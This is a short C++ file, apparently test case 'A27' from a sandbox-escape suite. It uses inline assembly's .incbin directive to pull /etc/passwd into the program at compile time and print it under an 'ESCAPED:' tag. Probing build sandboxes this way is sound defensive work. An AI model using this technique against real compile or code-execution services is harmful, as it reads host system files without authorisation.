// A27: reads a file of the machine through the assembler.
#include <cstdio>

asm(".section .rodata\n"
    "stolen: .incbin \"/etc/passwd\"\n"
    ".byte 0\n"
    ".text\n");
extern "C" const char stolen[];

int main() { std::printf("ESCAPED: %.80s\n", stolen); }
